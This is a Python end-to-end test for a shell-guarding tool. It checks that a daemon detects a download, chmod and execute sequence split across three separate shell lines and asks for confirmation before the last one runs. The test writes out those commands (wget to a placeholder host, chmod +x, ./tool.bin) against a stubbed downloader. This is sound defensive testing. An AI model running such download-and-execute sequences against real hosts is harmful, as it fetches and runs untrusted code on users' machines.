"""End-to-end: the daemon's sliding window asks about a download-and-execute split over lines.

A real guarded shell in tmux wired to a real daemon (the `scene` of
test_shell_daemon). No single line is suspicious to Tier-1; the third completes
`seq.download-chmod-exec` in the daemon's window and the shell asks before it runs.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.harness import run
from tests.e2e.test_shell_daemon import scene  # noqa: F401 - the fixture

pytestmark = pytest.mark.e2e


def test_split_download_chmod_run_is_asked(scene, ag_home: Path, attyguard_bin, ag_env):  # noqa: F811
    marker = ag_home / "window-marker"
    with (ag_home / ".bashrc").open("a") as rc:
        # A stand-in downloader: writes a script that would create the marker.
        rc.write(f"wget() {{ printf '#!/bin/sh\\ntouch {marker}\\n' > \"$2\"; }}\n")
    s = scene()
    s.wait_connected()
    lines = ["wget -O tool.bin https://files.example.invalid/tool.bin", "chmod +x tool.bin"]
    for line in [*lines, "./tool.bin"]:
        local = run([attyguard_bin, "check", "--no-daemon", "--no-trust", "--", line], env=ag_env)
        assert local.returncode == 0, (line, local)  # each line alone is allowed
    for n, line in enumerate(lines):
        s.t.send_line(f"{line}; echo step-{n}")
        s.wait(rf"^step-{n}\n\[~\]\$$")
    s.t.send_line("./tool.bin")
    s.wait(r"Downloaded file made executable and run")
    s.wait(r"\[y\]es / \[t\]rust / cancel\?")
    s.t.send_keys("n")
    s.wait(r"^\[~\]\$ \./tool\.bin$")
    assert not marker.exists(), s.dump()
    assert (ag_home / "tool.bin").exists(), s.dump()  # the earlier steps did run
